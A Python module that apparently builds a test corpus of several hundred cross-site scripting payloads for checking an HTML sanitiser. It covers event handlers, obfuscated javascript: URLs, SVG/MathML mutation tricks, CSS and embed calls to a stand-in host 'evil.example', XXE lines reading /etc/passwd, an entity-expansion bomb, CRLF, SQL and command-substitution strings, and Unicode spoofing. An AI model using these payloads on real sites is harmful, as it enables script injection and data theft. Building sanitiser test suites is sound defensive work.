"""Hundreds of XSS payloads, each of which sets `window.pwned` where it runs."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

RUN = "alert(window.pwned=1)"
"""The script of every payload: a dialog opens, and a mark is left."""

AWAY = "https://evil.example"
"""The host that every payload calls."""

_BAD = f"<img src=x onerror={RUN}>"

_OVERLAYS = (
    "\u0338",
    "&#824;",
    "&#x338;",
    "&#X00338;",
    "\u0327\u0338",
    "&#807;&#824;",
    "\u20d2\u0301&#x338;",
    "&DownBreve;&#824;",
)
"""U+0338, which composes with `>`, as a character and as references, also behind other marks."""

COMPOSING = tuple(
    markup.replace("{}", overlay)
    for overlay in _OVERLAYS
    for markup in (
        f'<img src="{AWAY}/c.png">{{}} onerror={RUN} x<b>y</b>',
        f'<a>{{}} href="javascript:{RUN}" q<i>w</i></a>',
        f"<p>{{}} id=builder class=notice onclick={RUN} q<i>w</i></p>",
        f'<iframe src="https://www.youtube.com/embed/x"></iframe>{{}}z<p onclick={RUN}>x</p>',
        f"<pre>{{}} onclick={RUN} x<b>y</b></pre>",
        f"<table><tr><td>{{}} onclick={RUN} x<tr>{{}} onclick={RUN} y<b>z</b></table>",
        f"<b>x</b>{{}} onclick={RUN} y<br>{{}} onclick={RUN} z<i>w</i>",
        f'<q title="a{{}}">{{}} onclick={RUN} x</q>',
    )
)
"""Markup that gains an attribute where somebody normalises it after it was sanitised."""


def payloads() -> list[str]:
    """All of them, without doubles, in one order."""
    families = (
        _handlers,
        _urls,
        _foreign,
        _mutations,
        _broken,
        _styles,
        _embeds,
        _clobbering,
        _xml,
        _unicode,
        _composing,
    )
    return list(
        dict.fromkeys(payload for family in families for payload in family())
    )


def _handlers() -> Iterator[str]:
    """Scripts, and attributes that run one."""
    yield f"<script>{RUN}</script>"
    yield f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>"
    yield f"<script type=module>import '{AWAY}/x.js'</script>"
    yield f"<script\n>{RUN}</script\n>"
    yield f"<script/x>{RUN}</script/x>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script><!--<script>{RUN}--></script>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("img src=/favicon.ico", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("p", "onclick"),
        ("p", "ONMOUSEOVER"),
        ("p tabindex=1 autofocus", "onfocus"),
        ("p contenteditable autofocus", "onfocusin"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("keygen autofocus", "onfocus"),
        ("video src=x", "onerror"),
        ("video controls", "onloadstart"),
        ("video><source", "onerror"),
        ("audio src=x", "onerror"),
        ("audio autoplay", "oncanplay"),
        ("track src=x", "onerror"),
        ("details open", "ontoggle"),
        ("dialog open", "onclose"),
        ("div popover id=x", "onbeforetoggle"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("iframe src=x", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("svg", "onload"),
        ("svg><animate attributeName=x dur=1s", "onbegin"),
        ("svg><set attributeName=x dur=1s", "onend"),
        ("svg><image href=x", "onerror"),
        ("math><mi", "onclick"),
        ("form", "onsubmit"),
        ("form", "onformdata"),
        ("p style='animation:x 1s'", "onanimationstart"),
        ("p style='transition:1s'", "ontransitionend"),
        ("p", "onpointerrawupdate"),
        ("p", "onauxclick"),
        ("p hidden=until-found", "onbeforematch"),
        ("p", "oncontentvisibilityautostatechange"),
        ("body", "onhashchange"),
        ("frameset", "onload"),
        ("a href=#", "onscrollsnapchange"),
    ):
        yield f"<{tag} {event}={RUN}>x"
        yield f'<{tag} {event}="{escape(RUN)}">x'
    for between in (
        "/",
        "\t",
        "\n",
        "\r",
        "\x0c",
        "\x0b",
        "\u00a0",
        "//",
        "/x/",
        '"',
        "'",
        "x=''",
        "`",
        "/\n/",
    ):
        yield f"<img src=x{between}onerror={RUN}>"
    for equals in (
        " =",
        "= ",
        "\n=\n",
        "\t=\t",
        "=/",
        "='",
        '="',
        "=`",
        "&#61;",
    ):
        yield f"<img src=x onerror{equals}{RUN}>"
    yield "<img src=x onerror=&#x61;lert(window.pwned=1)>"
    yield f"<img src=x one&#114;ror={RUN}>"
    yield f"<img src=x xon=1 onerror{RUN} onerror='{RUN}'>"
    yield f'"><img src=x onerror={RUN}>'
    yield f"'><img src=x onerror={RUN}>"
    yield f'" onmouseover="{RUN}" x="'
    yield f"' autofocus onfocus='{RUN}' x='"
    yield f"` onmouseover={RUN} x=`"
    yield f"--><img src=x onerror={RUN}>"
    yield f"]]><img src=x onerror={RUN}>"
    yield f"*/{RUN}/*"
    yield f"';{RUN}//\\';{RUN}//\";{RUN}//"
    yield f"</script><script>{RUN}</script>"
    yield f"{{{{constructor.constructor('{RUN}')()}}}}"
    yield f"${{{RUN}}}<%={RUN}%>{{%{RUN}%}}"


def _urls() -> Iterator[str]:
    """URLs that run a script, however they are spelt, in each attribute that holds one."""
    schemes = [
        "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:", "java\rscript:",
        "javascript\t:", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&#58;",
        "javascript&colon;", "java&Tab;script:", "java&NewLine;script:", "&#1;javascript:", "&#14; javascript:",
        "\u00a0javascript:", "\u2028javascript:", "\ufeffjavascript:", "java\u00adscript:", "java\u200bscript:",
        "ｊavascript:", "javaſcript:", "javascript：", "javascript%3a", "vbscript:", "VBScript&#x3a;",
        "livescript:", "mocha:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "x:javascript:",
        "//javascript:", "javascript://x/%0a", "javascript:\\\\x\n", "https:javascript:", "mailto:javascript:",
    ]  # fmt: skip
    for scheme in schemes:
        yield f'<a href="{scheme}{RUN}">x</a>'
        yield f"{scheme}{RUN}"
    for data in (
        "data:text/html,", "data:text/html;charset=utf-8,", "DATA:text/html,", "data:,", "data:image/svg+xml,",
        "data:application/xhtml+xml,", "data:text/xml,", "data&colon;text/html,", "blob:https://evil.example/",
        "filesystem:https://evil.example/", "about:blank#", "file:///", "ms-appx:", "intent:",
    ):  # fmt: skip
        yield f"<a href='{data}<script>{RUN}</script>'>x</a>"
        yield f"{data}<script>{RUN}</script>"
    for holder in (
        "<iframe src='{}'></iframe>", "<embed src='{}'>", "<object data='{}'></object>", "<form action='{}'><button>x",
        "<button formaction='{}' form=x>x", "<input type=image src='{}'>", "<isindex action='{}'>", "<base href='{}'>",
        "<link rel=import href='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "<area href='{}'>",
        "<video poster='{}'></video>", "<video src='{}'></video>", "<audio src='{}'></audio>", "<source src='{}'>",
        "<source srcset='{}'>", "<track src='{}'>", "<img src='{}'>", "<img lowsrc='{}'>", "<img dynsrc='{}'>",
        "<img srcset='{} 1x'>", "<picture><source srcset='{}'><img></picture>", "<blockquote cite='{}'>x</blockquote>",
        "<q cite='{}'>x</q>", "<del cite='{}'>x</del>", "<ins cite='{}'>x</ins>", "<body background='{}'>",
        "<table background='{}'><td background='{}'>x</table>", "<html manifest='{}'>", "<a ping='{}' href=x>x</a>",
        "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<svg><use href='{}'></svg>", "<math href='{}'>x</math>",
        "<math><maction actiontype='statusline#{}'>x</math>", "<bgsound src='{}'>", "<layer src='{}'></layer>",
        "<img longdesc='{}'>", "<img usemap='{}'>", "<applet code='{}'></applet>", "<param name=src value='{}'>",
    ):  # fmt: skip
        yield holder.replace("{}", f"javascript:{RUN}")


def _foreign() -> Iterator[str]:
    """SVG and MathML, and markup that ends them."""
    for inside in (
        f"<script>{RUN}</script>",
        f"<script href=data:,{RUN} />",
        f"<a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a>",
        f"<a><set attributeName=href to=javascript:{RUN} /><text>x</text></a>",
        f"<foreignObject><img src=x onerror={RUN}></foreignObject>",
        f"<foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject>",
        f"<desc><img src=x onerror={RUN}></desc>",
        f"<title><img src=x onerror={RUN}></title>",
        f"<style><img src=x onerror={RUN}></style>",
        f"<style><!--</style><img src=x onerror={RUN}>-->",
        f"<![CDATA[<img src=x onerror={RUN}>]]>",
        f"<![CDATA[]]><img src=x onerror={RUN}>",
        f"<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{RUN}</handler>",
        f"<use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x' />",
        f"<discard onbegin={RUN} />",
        f"<p><img src=x onerror={RUN}>",
        f"</p><img src=x onerror={RUN}>",
        f"<br><img src=x onerror={RUN}>",
    ):
        yield f"<svg>{inside}</svg>"
        yield f"<math>{inside}</math>"
        yield f"<svg><math>{inside}</math></svg>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>"
    yield f"<math><mtext><mglyph><svg><mtext><style><a title='</style>{_BAD}'></style></mtext></svg>"
    yield f"<math><annotation-xml encoding=text/html><style>{_BAD}</style></annotation-xml></math>"
    yield f"<math><annotation-xml><svg><style>{_BAD}</style></svg></annotation-xml></math>"
    yield f"<svg xmlns:x=http://www.w3.org/1999/xhtml><x:script>{RUN}</x:script></svg>"
    yield f"<x:script xmlns:x=http://www.w3.org/1999/xhtml>{RUN}</x:script>"


def _mutations() -> Iterator[str]:
    """Markup that is text for one parser, and tags for another or at a second pass."""
    raw = "noscript template style title textarea xmp noembed noframes plaintext iframe select option object".split()
    for tag in raw:
        yield f"<{tag}>{_BAD}</{tag}>"
        yield f"<{tag}><p title='</{tag}>{_BAD}'>"
        yield f"<{tag}><!--</{tag}>{_BAD}-->"
        yield f"<{tag}><{tag}></{tag}>{_BAD}</{tag}>"
        yield f"<{tag}/>{_BAD}"
        yield f"<svg><{tag}><p title='</{tag}>{_BAD}'></{tag}></svg>"
        yield f"<{tag}>&lt;/{tag}&gt;{escape(_BAD)}</{tag}>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{_BAD}"
    yield f"<svg></p><style><a id='</style>{_BAD}'>"
    yield f"<noscript><p title='</noscript>{_BAD}'></noscript>"
    yield f"<p id='</title>{_BAD}'><title><p>"
    yield f"<select><iframe></select>{_BAD}"
    yield f"<select><style></select>{_BAD}</style>"
    yield f"<table><td><select><table></select>{_BAD}</table>"
    yield f"<table><caption><svg><title><table><caption></svg>{_BAD}"
    yield f"<table><tr><p title='</td></table>{_BAD}'>x</table>"
    yield f"<a><table><a title='</a>{_BAD}'>x</table>"
    yield f"<p title='<iframe'>a</p><p title='></iframe>{_BAD}'>b</p>"
    yield f"<img alt='<iframe src=\"x\"'><img alt='></iframe>{_BAD}'>"
    yield f"<img alt='``onerror={RUN} '>"
    yield f"<p title='&lt;/p&gt;{escape(_BAD)}'>x</p>"
    yield f"<pre title='>\n{_BAD}'>\n\nx</pre>"
    yield f"<h1 title='<h1 onclick={RUN}>'>x</h1>"
    yield escape(_BAD)
    yield escape(escape(_BAD))
    yield f"&lt;script&gt;{RUN}&lt;/script&gt;"
    yield f"&#60;script>{RUN}&#60;/script>"
    yield f"&ltimg src=x onerror={RUN}&gt"


def _broken() -> Iterator[str]:
    """Tags and attributes that are none, and ends that are missing."""
    for start in ("<", "<<", "< ", "<\n", "<\\", "</", "<!", "<?", "<%", "<=", "<[", "<x:", "<\u00a0", "‹", "＜", "¼", "+ADw-"):  # fmt: skip
        yield f"{start}img src=x onerror={RUN}>"
        yield f"{start}script>{RUN}</script>"
    yield f"<img src=x onerror={RUN}"
    yield f"<img src=x onerror={RUN} <p>"
    yield f"<img src='x onerror={RUN}>"
    yield f'<img src="x onerror={RUN}>'
    yield f"<img src='' ' onerror={RUN} '>"
    yield f"<img/src=x/onerror={RUN}/>"
    yield f"<img src=x:x onerror={RUN}//"
    yield f"<img =x src=x onerror={RUN}>"
    yield f"<img <p src=x onerror={RUN}>"
    yield f"<img src=x onerror={RUN} / >"
    yield f'<img """><script>{RUN}</script>">'
    yield f"<image src=x onerror={RUN}>"
    yield f"<ｉmg src=x onerror={RUN}>"
    yield f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->"
    yield f"<!--><img src=x onerror={RUN}>-->"
    yield f"<!---><img src=x onerror={RUN}>-->"
    yield f"<!-- --!><img src=x onerror={RUN}>-->"
    yield f"<!-- <!-- --><img src=x onerror={RUN}>-->"
    yield f"<!-- -- ><img src=x onerror={RUN}>-->"
    yield f"<!doctype html [<!ENTITY x '{_BAD}'>]>&x;"
    yield f"<? {_BAD} ?>"
    yield f"</ {_BAD}>"
    yield f"<p a='>' b=\">\" c=>{_BAD}"
    yield "<" * 200
    yield ">" * 200
    yield "<b>" * 100
    yield "</p>" * 100
    yield "\"'`" * 60


def _styles() -> Iterator[str]:
    """CSS that calls, covers the page, or ran scripts once."""
    for rule in (
        f"background:url({AWAY}/c.png)",
        f"background:url(javascript:{RUN})",
        f"width:expression({RUN})",
        f"wid/**/th:exp/**/ression({RUN})",
        f"\\77idth:\\65xpression({RUN})",
        f"-moz-binding:url({AWAY}/x.xml#x)",
        f"behavior:url({AWAY}/x.htc)",
        f"list-style:url({AWAY}/l.png)",
        f"cursor:url({AWAY}/c.cur),auto",
        "position:fixed;inset:0;z-index:9;background:red",
        f"--x:url({AWAY}/v.png);background:var(--x)",
    ):
        yield f'<p style="{rule}">x</p>'
        yield f"<style>*{{{rule}}}</style>x"
    yield f"<style>@import '{AWAY}/x.css'</style>"
    yield f"<link rel=stylesheet href={AWAY}/x.css>"
    yield f"<style>@font-face{{font-family:x;src:url({AWAY}/x.woff)}}*{{font-family:x}}</style>"
    yield f"<p class=skip id=main style='background:url(\"{AWAY}/q.png\")'>x</p>"


def _embeds() -> Iterator[str]:
    """Frames, redirects, and everything that fetches."""
    yield f"<meta http-equiv=refresh content='0;url={AWAY}/'>"
    yield '<meta http-equiv=Content-Security-Policy content="script-src *">'
    yield "<meta charset=utf-7>+ADw-script+AD4-alert(window.pwned+AD0-1)+ADw-/script+AD4-"
    yield f"<base href={AWAY}/><a href=x>x</a><img src=x>"
    yield "<base target=_blank><a href=x>x</a>"
    yield f"<iframe src={AWAY}/></iframe>"
    yield f"<iframe srcdoc='<script>{RUN}</script>'></iframe>"
    yield f"<iframe srcdoc='{escape(_BAD)}'>{_BAD}</iframe>"
    yield f"<iframe src=https://www.youtube.com.evil.example/>{_BAD}</iframe>"
    yield f"<iframe src=https://www.youtube.com@evil.example/>{_BAD}</iframe>"
    yield f"<iframe src=https://evil.example#www.youtube.com>{_BAD}</iframe>"
    yield f"<iframe src=https://evil.example\\www.youtube.com>{_BAD}</iframe>"
    yield f"<iframe>{_BAD}"
    yield f"<iframe name='{RUN}'>x</iframe>"
    yield f"<frameset><frame src={AWAY}/></frameset>"
    yield f"<object data={AWAY}/x.swf><param name=allowScriptAccess value=always></object>"
    yield f"<embed src={AWAY}/x.svg type=image/svg+xml>"
    yield f"<link rel=prefetch href={AWAY}/p><link rel=dns-prefetch href={AWAY}/><link rel=preload as=script href={AWAY}/x.js>"
    yield f"<link rel=manifest href={AWAY}/m><link rel=icon href={AWAY}/i>"
    yield f"<a ping={AWAY}/ href={AWAY}/ target=_blank>x</a>"
    yield f"<form action={AWAY}/><input name=q value=x><button autofocus>x</button></form>"
    yield f"<img srcset='{AWAY}/s.png 1x, javascript:{RUN} 2x' sizes=1px>"
    yield f"<picture><source srcset={AWAY}/p.png><img src=x></picture>"
    yield f"<img src='{AWAY}/i.png?x' crossorigin=use-credentials referrerpolicy=unsafe-url>"
    yield f"<img src='{AWAY}/<script>{RUN}</script>.png'>"
    yield f"<input type=image src={AWAY}/i.png><body background={AWAY}/b.png>"
    yield f"<portal src={AWAY}/></portal><fencedframe></fencedframe>"
    yield f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AWAY}/"]}}]}}</script>'
    yield f"<template shadowrootmode=open>{_BAD}</template>"
    yield f"<x-foo is=x onclick={RUN}>x</x-foo><slot name=x>{_BAD}</slot>"


def _clobbering() -> Iterator[str]:
    """Names that hide the page's own."""
    for name in "main builder built copied cookie body getElementById querySelectorAll location __proto__ currentScript".split():  # fmt: skip
        yield f"<img id={name} name={name} src=x>"
        yield f"<form id={name} name={name}><input name={name} id=attributes></form>"
    yield "<a id=x><a id=x name=y href='https://evil.example/'>x</a>"
    yield "<p class='agenda' data-zone='x' data-today='y' data-day='2026-11-25'>x</p>"


def _xml() -> Iterator[str]:
    """Text that could end or change the XML or the lines around it."""
    yield from ("]]>", "]]&gt;", "]] >", "]]]]><![CDATA[>", "<![CDATA[x]]>", "<![CDATA[<script>" + RUN + "</script>]]>", "<![CDATA[")  # fmt: skip
    yield from ("&", "&amp;", "&amp;amp;", "&lt;", "&#60;", "&#x3c;", "&#0;", "&#x1;", "&#xFFFE;", "&#xD800;", "&#x110000;")  # fmt: skip
    yield from ("&x;", "&nbsp;", "&hellip;", "&notin;", "&not", "&amp", "&;", "&#;", "&#x;", "&lt;/title&gt;", "&amp;lt;b&amp;gt;")  # fmt: skip
    yield from ("<?xml version='1.0'?>", "<?xml-stylesheet href='https://evil.example/x.xsl' type='text/xsl'?>", "<?php x ?>", "?>")  # fmt: skip
    yield from (
        "<!-- x -- y -->",
        "<!--",
        "-->",
        "--",
        "<!DOCTYPE x SYSTEM 'file:///etc/passwd'>",
        "<!ENTITY x 'y'>",
    )
    yield '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;&b;&b;</x>'
    yield from ("</title></item></channel></rss>", "</title><link>https://evil.example/</link><title>", "</content></entry></feed>")  # fmt: skip
    yield "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"
    yield f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>"
    yield "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y"
    yield "x\nATTACH:https://evil.example/\nURL:javascript:x"
    yield 'a";X=y:z,b;c\\n\\,\\;\\\\d\\'
    yield from (
        "^n^'^^",
        "DTSTART;VALUE=DATE:20260101",
        "=SUM(A1)",
        "\\u003cscript\\u003e",
        "\\",
        '"}],"x":[{"y":"',
    )
    yield from ("%00", "%0d%0aSet-Cookie: x=y", "../../etc/passwd", "{0} {name} %s %(x)s {0.__class__}", "$(id)`id`", "' OR 1=1 --")  # fmt: skip
    yield "</script><!-- <script>"
    yield "\u2028\u2029</script>"


def _unicode() -> Iterator[str]:
    """Signs that hide, turn round, pile up, or are none; and lengths."""
    yield from (f"a{sign}b" for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u061c\u180e\u3164\u115f\u2800\ufff9\ufffa\ufffb\ufffc")  # fmt: skip
    yield from (
        f"a{sign}gnp.exe"
        for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
    )
    yield from (
        f"a{sign}b" for sign in "\u0085\u2028\u2029\u00a0\u3000\u1680\t\n\r"
    )
    yield from (f"a{chr(code)}b" for code in (0, 1, 8, 11, 12, 27, 31, 127, 128, 159, 0xFDD0, 0xFFFD, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF))  # fmt: skip
    yield from (
        f"a{chr(code)}b"
        for code in (
            0xE000,
            0xF8FF,
            0xF0000,
            0xE0001,
            0xE0041,
            0xFE0F,
            0x1F1FB,
            0x1F3FB,
        )
    )
    yield "\ud800"
    yield "a\udc00\ud800b"
    yield "аррӏе.com раураӏ"  # Cyrillic
    yield "𝓼𝓬𝓻𝓲𝓹𝓽 ＜script＞ ﹤script﹥ ‹script›"
    yield "ﬁ ǆ İ ı ſ K Å ẞ ΐ ﷽"
    yield "Z" + "\u0300\u0316\u0334" * 10
    yield "Z" + "\u0300" * 31
    yield "e\u0301" * 200
    yield "ở\u0323" * 50
    yield "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇻🇳" * 20
    yield "ا\u064b\u0651 עִבְ"
    yield "\U0001f3ee" * 200
    yield "a" * 500
    yield "a" * 100_000
    yield "<p>" + "a" * 100_000 + "</p>"
    yield "a <b>" * 2000
    yield "&" * 10_000
    yield "<p>x</p>" * 2000
    yield "\u0e33" * 5000
    yield "\n" * 1000
    yield " " * 1000


def _composing() -> Iterator[str]:
    """Combining marks that join the tag in front of them when the markup is normalised."""
    yield from COMPOSING
